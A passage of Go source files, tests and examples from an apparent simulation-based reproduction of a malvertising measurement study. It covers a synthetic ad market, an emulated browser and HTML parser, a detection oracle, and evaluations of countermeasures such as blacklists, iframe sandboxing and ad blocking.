// study: the shared submission blacklist, arbitration penalties, the
// ad-path guard, iframe sandboxing, and full ad blocking.
func EvaluateDefenses(s *Study, r *Results) ([]Comparison, error) {
	var out []Comparison

	shared, err := defense.SharedBlacklist(s.Cfg.Ads, 200_000, s.Cfg.Seed+1)
	if err != nil {
		return nil, err
	}
	out = append(out, shared)
	out = append(out, defense.PenalizeNetworks(s.Eco, 200_000, 0.10, s.Cfg.Seed+2))
	out = append(out, defense.EvaluateAdPathGuard(r.Corpus, r.Oracle, adnet.MaxChain/2))

	// Sandbox: re-render the hijacking incidents.
	var hijackAds []*Ad
	for _, inc := range r.Oracle.Incidents {
		if inc.Category == CatSuspRedirect {
			if ad := r.Corpus.Get(inc.AdHash); ad != nil {
				hijackAds = append(hijackAds, ad)
			}
			if len(hijackAds) >= 20 {
				break
			}
		}
	}
	out = append(out, defense.EvaluateSandbox(s.Universe, hijackAds, s.Cfg.Seed+3))

	// Adblock over a page sample.
	var urls []string
	for i, site := range s.CrawlSites() {
		if i >= 30 {
			break
		}
		urls = append(urls, "http://"+site.Host+"/?v=defense")
	}
	out = append(out, defense.EvaluateAdBlock(s.Universe, s.List, urls, s.Cfg.Seed+4))

	// Adblock replay over the entire collected corpus: same blocker, no
	// page re-rendering, so it covers every observed impression.
	out = append(out, defense.ReplayAdBlock(s.List, r.Corpus))
	return out, nil
}
