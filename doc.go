// Package madave is a from-scratch reproduction of "The Dark Alleys of
// Madison Avenue: Understanding Malicious Advertisements" (Zarras,
// Kapravelos, Stringhini, Holz, Kruegel, Vigna — IMC 2014): the first
// large-scale measurement study of malvertising.
//
// The paper crawled 673,596 real-world advertisements and classified them
// with an oracle built from the Wepawet honeyclient, 49 public blacklists,
// and VirusTotal. Its live dependencies (the Web, ad exchanges, Selenium +
// Firefox, the detection services) are reproduced here as complete,
// deterministic substrates:
//
//   - a synthetic web of ranked publisher sites (internal/webgen) and an ad
//     market with exchanges, campaigns, auctions, and ad arbitration
//     (internal/adnet), served over HTTP (internal/adserver, internal/memnet);
//   - an emulated browser with its own HTML parser (internal/htmlparse) and
//     JavaScript-subset interpreter (internal/minijs), full traffic capture
//     (internal/netcap), and EasyList ad identification (internal/easylist);
//   - the oracle: a honeyclient (internal/honeyclient), a 49-list blacklist
//     tracker (internal/blacklist), and a 51-engine AV scanner
//     (internal/avscan), combined by internal/oracle;
//   - the analysis stage (internal/analysis) reproducing Table 1 and
//     Figures 1-5, and the §5 countermeasures (internal/defense).
//
// The one-call entry point:
//
//	results, err := madave.Run(madave.DefaultConfig())
//	if err != nil { ... }
//	fmt.Println(results.Report.RenderText())
//
// For phase-by-phase control (crawl, classify, analyze separately), build a
// Study:
//
//	study, err := madave.NewStudy(cfg)
//	corp, stats := study.Crawl()
//	verdicts := study.Classify(corp)
//	report := study.Analyze(corp, verdicts, stats)
//
// Everything is deterministic in Config.Seed: the same seed reproduces the
// same web, the same ads, the same incidents, and the same report.
package madave
