package madave

// TestEvalEquivalenceTreeWalkVsCompiled is the pipeline-level engine gate
// for ISSUE 6: over a simulated corpus, every honeyclient report must be
// byte-identical whether page scripts run on the bytecode VM (the default)
// or the tree-walking interpreter (-minijs-interp). The differential fuzzer
// proves per-script equivalence; this proves it composes through the full
// browser, detector, and scoring stack.

import (
	"bytes"
	"context"
	"encoding/json"
	"testing"

	"madave/internal/honeyclient"
)

func TestEvalEquivalenceTreeWalkVsCompiled(t *testing.T) {
	if testing.Short() {
		t.Skip("corpus equivalence sweep is not a -short test")
	}
	cfg := DefaultConfig()
	cfg.Seed = 33
	cfg.CrawlSites = 400
	s, err := NewStudy(cfg)
	if err != nil {
		t.Fatal(err)
	}
	corp, _ := s.CrawlSubset(s.Web.TopSlice(cfg.CrawlSites))
	ads := corp.All()
	if len(ads) == 0 {
		t.Fatal("empty corpus")
	}

	compiled := honeyclient.New(s.Universe, cfg.Seed)
	tree := honeyclient.New(s.Universe, cfg.Seed)
	tree.MinijsInterp = true

	ctx := context.Background()
	for _, ad := range ads {
		rc := compiled.AnalyzeAdContext(ctx, ad.FrameURL, ad.Day)
		rt := tree.AnalyzeAdContext(ctx, ad.FrameURL, ad.Day)
		jc, err := json.Marshal(rc)
		if err != nil {
			t.Fatal(err)
		}
		jt, err := json.Marshal(rt)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(jc, jt) {
			t.Fatalf("verdict divergence for %s (day %d):\n compiled: %s\n     tree: %s",
				ad.FrameURL, ad.Day, jc, jt)
		}
	}
	t.Logf("%d ads: compiled and tree-walk reports byte-identical", len(ads))
}
