// Yahoo-incident scenario: the paper's §4.2 discusses how visitors of
// Yahoo!'s website were served malvertisements between 31 December 2013 and
// 4 January 2014, and — given a typical infection rate of 9% — estimates
// "around 27,000 infections every hour".
//
// This example reproduces that scenario: a drive-by campaign is injected
// past the filters of the market's largest exchange, a crawl measures the
// resulting exposure, and the paper's arithmetic projects infections per
// hour. It then removes the campaign (the incident response) and verifies
// exposure returns to baseline.
//
//	go run ./examples/yahoo-incident
package main

import (
	"fmt"
	"log"

	"madave"
	"madave/internal/adnet"
)

// InfectionRate is the paper's "typical infection rate of 9%".
const InfectionRate = 0.09

func main() {
	cfg := madave.DefaultConfig()
	cfg.Seed = 31
	cfg.CrawlSites = 500

	study, err := madave.NewStudy(cfg)
	if err != nil {
		log.Fatal(err)
	}

	measure := func(label string) (adsServed int, exposed int) {
		corp, _ := study.Crawl()
		verdicts := study.Classify(corp)
		top := study.Eco.Networks[0]
		// Exposure through the top exchange specifically.
		flagged := map[string]bool{}
		for _, inc := range verdicts.Incidents {
			flagged[inc.AdHash] = true
		}
		for _, ad := range corp.All() {
			if len(ad.Chain) > 0 && ad.Chain[len(ad.Chain)-1] == top.Domain {
				adsServed++
				if flagged[ad.Hash] {
					exposed++
				}
			}
		}
		fmt.Printf("%-22s top exchange served %5d ads, %3d malicious\n", label, adsServed, exposed)
		return
	}

	fmt.Printf("top exchange: %s (market share %.1f%%, filter quality %.3f)\n\n",
		study.Eco.Networks[0].Domain, 100*study.Eco.Networks[0].Share,
		study.Eco.Networks[0].FilterQuality)

	measure("before the incident:")

	// The evasion: a drive-by campaign slips past the top exchange's
	// screening (as the real one did at Yahoo's ad network).
	evil := &adnet.Campaign{
		ID:           "cmp-yahoo-incident",
		Kind:         adnet.KindDriveBy,
		CreativeHost: "ads.blitzhostednewyear.com",
		LandingHost:  "www.blitzhostednewyear.com",
		PayloadHost:  "dl.blitzhostednewyear.com",
		Weight:       40, // aggressive bidding: it wants impressions
	}
	if err := study.Eco.InjectCampaign(0, evil); err != nil {
		log.Fatal(err)
	}
	// The payload host must resolve for the exploit chain to complete.
	study.Server.Install(study.Universe)

	served, exposed := measure("during the incident:")

	// The paper's arithmetic: with ~300,000 visits/hour on a Yahoo-scale
	// property and a 9% infection rate, exposure becomes infections.
	const visitsPerHour = 300_000
	exposureRate := 0.0
	if served > 0 {
		exposureRate = float64(exposed) / float64(served)
	}
	fmt.Printf("\nexposure rate through the top exchange: %.2f%%\n", 100*exposureRate)
	fmt.Printf("projected infections/hour at %d visits/hour x %.0f%% infection rate: %.0f\n",
		visitsPerHour, 100*InfectionRate,
		float64(visitsPerHour)*exposureRate*InfectionRate)
	fmt.Println("(the paper estimated ~27,000/hour for the real incident)")

	// Incident response.
	if err := study.Eco.RemoveCampaign(0, evil.ID); err != nil {
		log.Fatal(err)
	}
	fmt.Println()
	measure("after the takedown:")
}
