// Quickstart: run a small malvertising study end-to-end and print the
// reproduced paper results.
//
//	go run ./examples/quickstart
package main

import (
	"fmt"
	"log"

	"madave"
)

func main() {
	cfg := madave.DefaultConfig()
	cfg.Seed = 42
	cfg.CrawlSites = 300 // small and fast; raise toward the paper's scale

	results, err := madave.Run(cfg)
	if err != nil {
		log.Fatal(err)
	}

	fmt.Printf("collected %d unique advertisements from %d pages\n",
		results.Corpus.Len(), results.CrawlStats.PagesVisited)
	fmt.Printf("oracle flagged %d (%.2f%%) as malicious\n\n",
		results.Oracle.MaliciousCount(), 100*results.Oracle.MaliciousRate())
	fmt.Println(results.Report.RenderText())
}
