// Defense evaluation: runs a study and then measures each §5 countermeasure
// — proactive (ad-network side) and reactive (browser side) — reporting the
// reduction in malvertising exposure each one buys.
//
//	go run ./examples/defense-eval
package main

import (
	"fmt"
	"log"

	"madave"
)

func main() {
	cfg := madave.DefaultConfig()
	cfg.Seed = 13
	cfg.CrawlSites = 600

	study, err := madave.NewStudy(cfg)
	if err != nil {
		log.Fatal(err)
	}
	results := study.Run()
	fmt.Printf("baseline: %d incidents among %d ads (%.2f%%)\n\n",
		results.Oracle.MaliciousCount(), results.Oracle.Scanned,
		100*results.Oracle.MaliciousRate())

	comparisons, err := madave.EvaluateDefenses(study, results)
	if err != nil {
		log.Fatal(err)
	}

	fmt.Println("countermeasure evaluations (§5):")
	for _, c := range comparisons {
		fmt.Println("  " + c.String())
	}

	fmt.Println(`
reading the numbers:
  shared-blacklist   — networks publish screening rejections to a common
                       list; a campaign rejected once becomes unplaceable
  penalize-networks  — networks caught serving malvertisements are barred
                       from buying impressions in arbitration auctions
  ad-path-guard      — browser-side path blocking (Li et al. [18]) trained
                       on earlier incidents
  iframe-sandbox     — publishers adding sandbox="allow-scripts" to ad
                       iframes, neutralizing §2.3 link hijacking
  adblock            — EasyList-based blocking; total but economically
                       destructive (the paper's "domino effect")`)
}
