// Arbitration analysis: a deep dive into §4.3 — how ad slots get resold
// between exchanges, how benign and malicious arbitration chains differ
// (Figure 5), and who participates in the deep end of the market.
//
//	go run ./examples/arbitration-analysis
package main

import (
	"fmt"
	"log"
	"sort"
	"strings"

	"madave"
)

func main() {
	cfg := madave.DefaultConfig()
	cfg.Seed = 99
	cfg.CrawlSites = 1000

	study, err := madave.NewStudy(cfg)
	if err != nil {
		log.Fatal(err)
	}
	// Crawl with full traffic capture so the host graph can be mined, then
	// classify and analyze as usual.
	corp, stats, trace := study.CrawlTraced()
	verdicts := study.Classify(corp)
	results := &madave.Results{
		Corpus: corp, CrawlStats: stats, Oracle: verdicts,
		Report: study.Analyze(corp, verdicts, stats),
	}

	malicious := map[string]bool{}
	for _, inc := range results.Oracle.Incidents {
		malicious[inc.AdHash] = true
	}

	f5 := results.Report.Figure5
	fmt.Println("== Figure 5: auctions per ad slot ==")
	fmt.Printf("%8s %10s %10s\n", "auctions", "benign", "malicious")
	maxLen := f5.Benign.Max()
	if m := f5.Malicious.Max(); m > maxLen {
		maxLen = m
	}
	for v := 1; v <= maxLen; v++ {
		b, m := f5.Benign.Get(v), f5.Malicious.Get(v)
		if b == 0 && m == 0 {
			continue
		}
		fmt.Printf("%8d %10d %10d  %s\n", v, b, m, bar(m, f5.Malicious.Total()))
	}
	fmt.Printf("\nbenign:    mean %.2f, max %d\n", f5.Benign.Mean(), f5.Benign.Max())
	fmt.Printf("malicious: mean %.2f, max %d, share beyond 15 auctions %.1f%% (paper: ~2%%)\n\n",
		f5.Malicious.Mean(), f5.Malicious.Max(), 100*f5.Malicious.TailShare(15))

	// Repeat participation: the same network buying and selling one slot.
	repeats, longChains := 0, 0
	lateParticipants := map[string]int{}
	for _, ad := range results.Corpus.All() {
		if len(ad.Chain) < 6 {
			continue
		}
		longChains++
		seen := map[string]bool{}
		repeated := false
		for i, host := range ad.Chain {
			if seen[host] {
				repeated = true
			}
			seen[host] = true
			if i >= 10 {
				lateParticipants[host]++
			}
		}
		if repeated {
			repeats++
		}
	}
	fmt.Printf("== repeat participation (§4.3) ==\n")
	fmt.Printf("chains of 6+ auctions: %d, with a repeated network: %d (%.0f%%)\n\n",
		longChains, repeats, 100*ratio(repeats, longChains))

	fmt.Println("== who buys slots after the 10th auction? ==")
	type kv struct {
		host string
		n    int
	}
	var late []kv
	for h, n := range lateParticipants {
		late = append(late, kv{h, n})
	}
	sort.Slice(late, func(i, j int) bool {
		if late[i].n != late[j].n {
			return late[i].n > late[j].n
		}
		return late[i].host < late[j].host
	})
	for i, e := range late {
		if i >= 8 {
			break
		}
		fmt.Printf("  %-36s %d late buys\n", e.host, e.n)
	}
	fmt.Println("\nthe deep market is populated by the networks the oracle keeps flagging —")
	fmt.Println("exactly the paper's observation that late auctions happen among the")
	fmt.Println("malvertising-involved exchanges.")

	// The captured HTTP traffic as a host graph: arbitration hubs and a
	// publisher-to-payload ad path.
	graph := madave.BuildHostGraph(trace)
	fmt.Println("\n== host graph from the traffic trace ==")
	fmt.Print(graph.RenderTop(8))

	// Find an ad path from a publisher to a payload host, if one exists.
	for _, inc := range results.Oracle.Incidents {
		ad := results.Corpus.Get(inc.AdHash)
		if ad == nil || inc.Report == nil || len(inc.Report.Downloads) == 0 {
			continue
		}
		payloadHost := hostOf(inc.Report.Downloads[0].URL)
		if path := graph.ShortestPath(ad.PubHost, payloadHost); path != nil {
			fmt.Printf("\nad path from publisher to exploit payload:\n  %s\n",
				strings.Join(path, "\n  -> "))
			break
		}
	}
}

func hostOf(rawURL string) string {
	if i := strings.Index(rawURL, "://"); i >= 0 {
		rest := rawURL[i+3:]
		if j := strings.IndexAny(rest, "/?#"); j >= 0 {
			return rest[:j]
		}
		return rest
	}
	return rawURL
}

func ratio(a, b int) float64 {
	if b == 0 {
		return 0
	}
	return float64(a) / float64(b)
}

func bar(n, total int) string {
	if total == 0 {
		return ""
	}
	w := n * 60 / total
	if n > 0 && w == 0 {
		w = 1
	}
	return strings.Repeat("#", w)
}
