// Malvertising study, phase by phase: the workload the paper's evaluation
// is built on, with a validation pass that compares the oracle's verdicts
// against the simulation's ground truth (something the paper's authors
// could not do — their ground truth was the live Internet).
//
//	go run ./examples/malvertising-study
package main

import (
	"fmt"
	"log"
	"time"

	"madave"
)

func main() {
	cfg := madave.DefaultConfig()
	cfg.Seed = 7
	cfg.CrawlSites = 800
	cfg.Crawl.Refreshes = 5 // the paper's refresh count

	study, err := madave.NewStudy(cfg)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("== ecosystem ==\n%d ranked sites, %d ad networks, %d campaigns\n\n",
		len(study.Web.Sites), len(study.Eco.Networks), len(study.Eco.Campaigns))

	// Phase 1: crawl (§3.1).
	t0 := time.Now()
	corp, stats := study.Crawl()
	fmt.Printf("== crawl (§3.1) ==\n")
	fmt.Printf("pages visited:      %d\n", stats.PagesVisited)
	fmt.Printf("iframes seen:       %d (%d ads, %d other)\n",
		stats.FramesSeen, stats.AdFrames, stats.NonAdFrames)
	fmt.Printf("unique ads:         %d (%d duplicates)\n", corp.Len(), stats.Duplicates)
	fmt.Printf("sandboxed ad frames: %d (paper: none)\n", stats.SandboxedAds)
	fmt.Printf("elapsed:            %v\n\n", time.Since(t0).Round(time.Millisecond))

	// Phase 2: oracle (§3.2).
	t1 := time.Now()
	verdicts := study.Classify(corp)
	fmt.Printf("== oracle (§3.2) ==\n")
	fmt.Printf("incidents: %d of %d ads (%.2f%%; paper: ~1%%)\n",
		verdicts.MaliciousCount(), verdicts.Scanned, 100*verdicts.MaliciousRate())
	fmt.Printf("elapsed:   %v\n\n", time.Since(t1).Round(time.Millisecond))

	// Validation: oracle vs ground truth.
	truthMal := 0
	agree := 0
	for _, ad := range corp.All() {
		c, ok := study.GroundTruth(ad)
		if !ok {
			continue
		}
		if c.IsMalicious() {
			truthMal++
		}
	}
	flagged := map[string]bool{}
	for _, inc := range verdicts.Incidents {
		flagged[inc.AdHash] = true
	}
	for _, ad := range corp.All() {
		c, _ := study.GroundTruth(ad)
		if c != nil && c.IsMalicious() == flagged[ad.Hash] {
			agree++
		}
	}
	fmt.Printf("== validation (simulation-only luxury) ==\n")
	fmt.Printf("ground-truth malicious ads: %d, oracle incidents: %d\n", truthMal, verdicts.MaliciousCount())
	fmt.Printf("per-ad agreement: %.2f%%\n\n", 100*float64(agree)/float64(corp.Len()))

	// Phase 3: analysis (§4).
	report := study.Analyze(corp, verdicts, stats)
	fmt.Println(report.RenderText())
}
