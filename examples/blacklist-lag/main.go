// Blacklist-lag dynamics: the paper's oracle checked domains against 49
// blacklists after a three-month crawl — a steady-state view. In reality,
// list providers discover domains with a delay. This example runs the same
// multi-day crawl twice: once with the steady-state oracle and once with a
// temporal oracle whose listings appear over the crawl window, and shows
// how provider lag depresses early-day detection.
//
//	go run ./examples/blacklist-lag
package main

import (
	"fmt"
	"log"

	"madave"
	"madave/internal/blacklist"
)

func main() {
	cfg := madave.DefaultConfig()
	cfg.Seed = 47
	cfg.CrawlSites = 300
	cfg.Crawl.Days = 6
	cfg.Crawl.Refreshes = 2

	study, err := madave.NewStudy(cfg)
	if err != nil {
		log.Fatal(err)
	}
	corp, _ := study.Crawl()
	fmt.Printf("crawled %d unique ads over %d days\n\n", corp.Len(), cfg.Crawl.Days)

	// Steady-state oracle (the paper's view).
	steady := study.Classify(corp)
	// Temporal oracle: listings discovered across the crawl window.
	study.Oracle.Lists = blacklist.BuildTemporal(study.Eco, cfg.Seed, cfg.Crawl.Days)
	study.Oracle.TemporalBlacklists = true
	lagged := study.Classify(corp)

	fmt.Printf("%-6s %10s | %22s | %22s\n", "day", "ads", "steady-state oracle", "lagged oracle")
	steadyTL := madave.Timeline(corp, steady)
	laggedTL := madave.Timeline(corp, lagged)
	for i := range steadyTL {
		s, l := steadyTL[i], laggedTL[i]
		fmt.Printf("%-6d %10d | %6d incidents %6.2f%% | %6d incidents %6.2f%%\n",
			s.Day, s.Ads, s.Malicious, 100*s.Rate(), l.Malicious, 100*l.Rate())
	}

	fmt.Printf("\ntotals: steady-state %d incidents, lagged %d (%.0f%% of the steady view)\n",
		steady.MaliciousCount(), lagged.MaliciousCount(),
		100*float64(lagged.MaliciousCount())/float64(steady.MaliciousCount()))
	fmt.Println("\nthe gap is the detection the paper's post-crawl blacklist check gains")
	fmt.Println("over a same-day check — and why longitudinal re-checking matters.")
}
