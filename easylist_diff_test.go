package madave

import (
	"strings"
	"testing"

	"madave/internal/easylist"
)

// TestIndexedMatchEqualsLinearOverCorpus proves the token-indexed EasyList
// engine returns identical (blocked, rule) verdicts to the pre-index linear
// scan over the entire seed corpus crawl: every snapshotted ad frame and
// creative URL, every host contacted while rendering ads, and every
// publisher page, replayed against the study's own synthetic EasyList with
// resource-type, document-host, and case variants.
func TestIndexedMatchEqualsLinearOverCorpus(t *testing.T) {
	s, r := runOnce(t)

	var reqs []easylist.Request
	for _, ad := range r.Corpus.All() {
		reqs = append(reqs,
			easylist.Request{URL: ad.FrameURL, Type: easylist.TypeSubdocument, DocHost: ad.PubHost},
			easylist.Request{URL: strings.ToUpper(ad.FrameURL), Type: easylist.TypeSubdocument, DocHost: ad.PubHost},
			easylist.Request{URL: ad.FinalURL, Type: easylist.TypeDocument, DocHost: ad.PubHost},
			easylist.Request{URL: ad.FinalURL, Type: easylist.TypeScript, DocHost: ""},
		)
		for _, h := range ad.Hosts {
			reqs = append(reqs, easylist.Request{URL: "http://" + h + "/", Type: easylist.TypeOther, DocHost: ad.PubHost})
		}
	}
	for _, site := range s.Web.Sites {
		reqs = append(reqs, easylist.Request{URL: "http://" + site.Host + "/?v=diff", Type: easylist.TypeDocument, DocHost: site.Host})
	}
	if len(reqs) < 1000 {
		t.Fatalf("differential corpus too small: %d requests", len(reqs))
	}

	ctx := easylist.NewRequestCtx()
	for _, req := range reqs {
		gotB, gotR := s.List.MatchCtx(ctx, req)
		wantB, wantR := s.List.MatchLinear(req)
		if gotB != wantB || gotR != wantR {
			t.Fatalf("indexed/linear divergence on %+v:\n indexed = %v %v\n linear  = %v %v",
				req, gotB, rawOf(gotR), wantB, rawOf(wantR))
		}
	}
	t.Logf("indexed ≡ linear over %d corpus-derived requests (%d rules)", len(reqs), s.List.Len())
}

func rawOf(r *easylist.Rule) string {
	if r == nil {
		return "<nil>"
	}
	return r.Raw
}
