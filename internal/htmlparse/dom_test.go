package htmlparse

import (
	"strings"
	"testing"
	"testing/quick"
)

func TestParseTree(t *testing.T) {
	doc := Parse(`<html><body><div id="main"><p>one</p><p>two</p></div></body></html>`)
	ps := doc.Find("p")
	if len(ps) != 2 {
		t.Fatalf("found %d <p>, want 2", len(ps))
	}
	if ps[0].InnerText() != "one" || ps[1].InnerText() != "two" {
		t.Fatalf("p texts: %q %q", ps[0].InnerText(), ps[1].InnerText())
	}
	div := doc.FindFirst("div")
	if div == nil || div.AttrOr("id", "") != "main" {
		t.Fatalf("div = %+v", div)
	}
	if len(div.Children) != 2 {
		t.Fatalf("div has %d children", len(div.Children))
	}
	if div.Parent == nil || div.Parent.Tag != "body" {
		t.Fatal("parent pointers broken")
	}
}

func TestParseVoidElements(t *testing.T) {
	doc := Parse(`<div><img src="a.png"><br><p>after</p></div>`)
	div := doc.FindFirst("div")
	if len(div.Children) != 3 {
		t.Fatalf("div has %d children, want 3 (img, br, p)", len(div.Children))
	}
	img := doc.FindFirst("img")
	if len(img.Children) != 0 {
		t.Fatal("void element got children")
	}
}

func TestParseIframes(t *testing.T) {
	doc := Parse(`
		<body>
			<iframe src="http://ads.example.com/slot1" width="300"></iframe>
			<iframe src="http://ads.example.com/slot2" sandbox></iframe>
		</body>`)
	frames := doc.Find("iframe")
	if len(frames) != 2 {
		t.Fatalf("found %d iframes", len(frames))
	}
	if frames[1].HasAttr("sandbox") != true {
		t.Fatal("sandbox attribute not detected")
	}
	if frames[0].HasAttr("sandbox") {
		t.Fatal("sandbox attribute false positive")
	}
}

func TestParseStrayEndTag(t *testing.T) {
	doc := Parse(`<div>a</span>b</div>`)
	div := doc.FindFirst("div")
	if div == nil {
		t.Fatal("no div")
	}
	if got := div.InnerText(); got != "ab" {
		t.Fatalf("inner text = %q", got)
	}
}

func TestParseUnclosedElements(t *testing.T) {
	doc := Parse(`<div><p>text`)
	if doc.FindFirst("p") == nil {
		t.Fatal("unclosed p lost")
	}
	if got := doc.InnerText(); got != "text" {
		t.Fatalf("inner text = %q", got)
	}
}

func TestParseScriptContent(t *testing.T) {
	doc := Parse(`<script>var a = "<div>not a tag</div>";</script>`)
	s := doc.FindFirst("script")
	if s == nil {
		t.Fatal("no script element")
	}
	if doc.FindFirst("div") != nil {
		t.Fatal("script content was parsed as markup")
	}
	if !strings.Contains(s.InnerText(), "not a tag") {
		t.Fatalf("script text = %q", s.InnerText())
	}
}

func TestSetAttr(t *testing.T) {
	doc := Parse(`<iframe src="a"></iframe>`)
	f := doc.FindFirst("iframe")
	f.SetAttr("src", "b")
	if v, _ := f.Attr("src"); v != "b" {
		t.Fatalf("src = %q", v)
	}
	f.SetAttr("sandbox", "")
	if !f.HasAttr("sandbox") {
		t.Fatal("new attr not added")
	}
}

func TestRenderRoundTrip(t *testing.T) {
	src := `<html><body><div id="x"><p>hi &amp; bye</p><img src="a.png"></div></body></html>`
	doc := Parse(src)
	out := doc.Render()
	doc2 := Parse(out)
	if doc2.FindFirst("p") == nil || doc2.FindFirst("img") == nil {
		t.Fatalf("re-parse of render lost structure:\n%s", out)
	}
	if got := doc2.FindFirst("p").InnerText(); got != "hi & bye" {
		t.Fatalf("entity round trip: %q", got)
	}
}

func TestRenderEscapesAttrs(t *testing.T) {
	n := &Node{Type: ElementNode, Tag: "a"}
	n.SetAttr("href", `x"y&z`)
	out := n.Render()
	if !strings.Contains(out, `href="x&quot;y&amp;z"`) {
		t.Fatalf("render = %q", out)
	}
}

func TestRenderScriptVerbatim(t *testing.T) {
	src := `<script>if (a < b && c > d) go();</script>`
	doc := Parse(src)
	out := doc.Render()
	if !strings.Contains(out, "a < b && c > d") {
		t.Fatalf("script body was escaped: %q", out)
	}
}

func TestWalkPrune(t *testing.T) {
	doc := Parse(`<div><section><p>deep</p></section><p>shallow</p></div>`)
	var visited []string
	doc.Walk(func(n *Node) bool {
		if n.Type == ElementNode {
			visited = append(visited, n.Tag)
			return n.Tag != "section" // prune inside section
		}
		return true
	})
	for _, tag := range visited {
		if tag == "p" {
			// One p is inside section (pruned); the shallow one is fine —
			// ensure the deep p was NOT visited by counting.
		}
	}
	count := 0
	for _, tag := range visited {
		if tag == "p" {
			count++
		}
	}
	if count != 1 {
		t.Fatalf("pruning failed, visited %d <p>", count)
	}
}

// Property: Parse never panics and Render output re-parses without panic for
// arbitrary byte soup.
func TestParseFuzzProperty(t *testing.T) {
	f := func(raw []byte) bool {
		doc := Parse(string(raw))
		out := doc.Render()
		Parse(out)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

// Property: every element found by Find has the requested tag and element
// type.
func TestFindProperty(t *testing.T) {
	doc := Parse(`<div><p>a</p><span><p>b</p></span><P>c</P></div>`)
	ps := doc.Find("p")
	if len(ps) != 3 {
		t.Fatalf("found %d <p>, want 3", len(ps))
	}
	for _, p := range ps {
		if p.Type != ElementNode || p.Tag != "p" {
			t.Fatalf("bad node: %+v", p)
		}
	}
}

func TestNestedSameTag(t *testing.T) {
	doc := Parse(`<div id="outer"><div id="inner">x</div></div>`)
	divs := doc.Find("div")
	if len(divs) != 2 {
		t.Fatalf("found %d divs", len(divs))
	}
	if divs[0].AttrOr("id", "") != "outer" || divs[1].AttrOr("id", "") != "inner" {
		t.Fatal("document order violated")
	}
	if divs[1].Parent != divs[0] {
		t.Fatal("inner div not child of outer")
	}
}
