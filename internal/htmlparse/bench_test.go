package htmlparse

import (
	"strings"
	"testing"
)

// benchPage resembles a publisher page with ad iframes and inline scripts.
var benchPage = func() string {
	var b strings.Builder
	b.WriteString("<!DOCTYPE html><html><head><title>bench</title></head><body>")
	for i := 0; i < 30; i++ {
		b.WriteString(`<div class="row"><p>Some article text with <a href="/x">links</a> and <b>markup</b>.</p>`)
		b.WriteString(`<iframe src="http://adserv.example.com/serve?slot=` + string(rune('0'+i%10)) + `" width="300" height="250"></iframe>`)
		b.WriteString(`<script>var x = 1 < 2 && 3 > 2; document.write("<span>` + "`" + `</span>");</script></div>`)
	}
	b.WriteString("</body></html>")
	return b.String()
}()

func BenchmarkTokenize(b *testing.B) {
	b.SetBytes(int64(len(benchPage)))
	for i := 0; i < b.N; i++ {
		z := NewTokenizer(benchPage)
		for {
			if tok := z.Next(); tok.Type == ErrorToken {
				break
			}
		}
	}
}

func BenchmarkParseDOM(b *testing.B) {
	b.SetBytes(int64(len(benchPage)))
	for i := 0; i < b.N; i++ {
		doc := Parse(benchPage)
		if len(doc.Find("iframe")) != 30 {
			b.Fatal("parse lost iframes")
		}
	}
}

func BenchmarkRender(b *testing.B) {
	doc := Parse(benchPage)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if doc.Render() == "" {
			b.Fatal("empty render")
		}
	}
}
