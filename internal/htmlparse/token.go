// Package htmlparse implements the HTML tokenizer and DOM tree builder used
// by the emulated browser. The paper's crawler rendered pages with a real
// browser (Firefox via Selenium); this package is the parsing half of our
// from-scratch substitute.
//
// It is not a full HTML5 parser — it does not implement the spec's
// adoption-agency insanity — but it correctly handles what web pages in the
// simulation (and most real ad markup) contain: nested elements, void
// elements, quoted/unquoted attributes, comments, doctypes, and raw-text
// elements such as <script> whose contents must not be tokenized as markup.
package htmlparse

import (
	"strings"
)

// TokenType identifies the kind of a Token.
type TokenType int

// Token types produced by the Tokenizer.
const (
	ErrorToken TokenType = iota // end of input
	TextToken
	StartTagToken
	EndTagToken
	SelfClosingTagToken
	CommentToken
	DoctypeToken
)

// String returns a human-readable name for the token type.
func (t TokenType) String() string {
	switch t {
	case ErrorToken:
		return "Error"
	case TextToken:
		return "Text"
	case StartTagToken:
		return "StartTag"
	case EndTagToken:
		return "EndTag"
	case SelfClosingTagToken:
		return "SelfClosingTag"
	case CommentToken:
		return "Comment"
	case DoctypeToken:
		return "Doctype"
	}
	return "Unknown"
}

// Attr is a single name="value" attribute on a tag. Names are lowercased by
// the tokenizer; values keep their original case.
type Attr struct {
	Name  string
	Value string
}

// Token is one lexical unit of an HTML document.
//
// Attrs aliases the Tokenizer's internal scratch buffer and is only valid
// until the next call to Next. Callers that retain tokens across Next calls
// must copy the slice.
type Token struct {
	Type  TokenType
	Tag   string // lowercased tag name for tag tokens
	Text  string // text for TextToken, comment body for CommentToken
	Attrs []Attr
}

// Attr returns the value of the named attribute and whether it is present.
func (t *Token) Attr(name string) (string, bool) {
	for _, a := range t.Attrs {
		if a.Name == name {
			return a.Value, true
		}
	}
	return "", false
}

// rawTextTags are elements whose content is raw text up to the matching
// closing tag: markup inside them must not be tokenized.
var rawTextTags = map[string]bool{
	"script":   true,
	"style":    true,
	"textarea": true,
	"title":    true,
}

// rawCloseTag precomputes the "</tag" needle for every raw-text element so
// the raw-text scan never concatenates per call.
var rawCloseTag = map[string]string{
	"script":   "</script",
	"style":    "</style",
	"textarea": "</textarea",
	"title":    "</title",
}

// Tokenizer turns HTML source into a stream of Tokens.
type Tokenizer struct {
	src string
	pos int
	// rawTag, when non-empty, means the tokenizer is inside a raw-text
	// element and must scan for its closing tag only.
	rawTag string
	// attrs is the reusable scratch that backs Token.Attrs; it is truncated
	// at the start of every tag token, so attribute slices handed out by
	// Next are valid only until the following Next call.
	attrs []Attr
}

// NewTokenizer returns a Tokenizer over src.
func NewTokenizer(src string) *Tokenizer {
	return &Tokenizer{src: src}
}

// Reset rewinds the tokenizer onto a new input, reusing its internal
// buffers. It clears the attribute scratch (including the string pointers in
// its spare capacity) so a pooled tokenizer never pins a previous document's
// memory — the reset-hygiene contract the pool race test hammers.
func (z *Tokenizer) Reset(src string) {
	z.src = src
	z.pos = 0
	z.rawTag = ""
	clear(z.attrs[:cap(z.attrs)])
	z.attrs = z.attrs[:0]
}

// Next returns the next token. After the input is exhausted it returns
// a token with Type == ErrorToken forever.
func (z *Tokenizer) Next() Token {
	if z.pos >= len(z.src) {
		return Token{Type: ErrorToken}
	}
	if z.rawTag != "" {
		return z.nextRawText()
	}
	if z.src[z.pos] == '<' {
		return z.nextTag()
	}
